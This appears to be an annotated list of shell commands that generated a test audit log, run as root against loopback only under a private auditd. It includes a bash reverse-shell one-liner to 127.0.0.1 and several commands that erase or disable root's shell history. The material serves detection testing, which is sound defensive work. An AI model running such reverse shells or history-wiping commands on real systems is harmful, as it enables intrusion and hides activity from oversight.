# The commands behind capture-history.log, from a helper's attack-like workload (a private auditd, the
# shipped audit rules, as root with login uid 1000; loopback only). Only these events are kept.
timeout 6 bash -c 'bash -i >& /dev/tcp/127.0.0.1/47100 0>&1'   # a bash -c without history words (2039041; pyenv's shim
                                                                # removes its own dotfile first: rm -f …/.pyenv-source-shim, 2039187)
rm -f /root/.bash_history                                       # 2040263
ln -sf /dev/null /root/.bash_history                            # 2040264
bash -c 'export HISTFILE=/dev/null; unset HISTFILE; history -c' # 2040265
rm -f /root/.bash_history                                       # 2040266
